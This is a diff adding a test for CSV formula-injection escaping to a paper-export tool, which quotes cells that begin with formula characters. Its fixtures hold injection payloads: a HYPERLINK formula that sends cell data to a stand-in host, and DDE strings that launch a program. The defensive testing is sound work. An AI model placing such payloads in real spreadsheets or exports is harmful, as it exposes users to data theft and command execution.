@@ -94,5 +94,24 @@ def test_arxiv_and_daily_papers_fields_come_after_the_older_columns():
 def test_any_title_and_authors_survive_csv(title, authors):
     paper = make(title, authors=tuple(authors), arxiv="2401.00001")
     (row,) = csv.DictReader(io.StringIO(render([paper], "csv"), newline=""))
-    assert row["title"] == title
-    assert row["authors"] == "; ".join(authors) and row["arxiv_id"] == "2401.00001"
+    assert row["title"] == as_text(title)
+    assert row["authors"] == as_text("; ".join(authors)) and row["arxiv_id"] == "2401.00001"
+
+
+def as_text(cell: str) -> str:
+    """What a cell is written as: with a ``'`` when a spreadsheet would take it for a formula."""
+    return "'" + cell if cell[:1] in ("=", "+", "-", "@", "\t", "\r") else cell
+
+
+def test_cells_a_spreadsheet_would_run_as_formulas_are_written_as_text():
+    hyperlink = '=HYPERLINK("http://evil.test/?x="&A1,"Click")'
+    paper = make(hyperlink, authors=("=cmd|' /C calc'!A0", "Ada Lovelace"), journal_ref="@SUM(1+1)*cmd|' /C calc'!A0")
+    others = [make("-based learning", authors=("+1 Author",)), make("Plain title", authors=("Ada Lovelace",))]
+    rows = list(csv.DictReader(io.StringIO(render([paper, *others], "csv"), newline="")))
+    assert rows[0]["title"] == "'" + hyperlink
+    assert rows[0]["authors"] == "'=cmd|' /C calc'!A0; Ada Lovelace"
+    assert rows[0]["journal_ref"] == "'@SUM(1+1)*cmd|' /C calc'!A0"
+    assert (rows[1]["title"], rows[1]["authors"]) == ("'-based learning", "'+1 Author")
+    assert (rows[2]["title"], rows[2]["authors"]) == ("Plain title", "Ada Lovelace")  # the rest as they are
+    for row in rows:
+        assert not any(cell[:1] in ("=", "+", "-", "@", "\t", "\r") for cell in row.values())
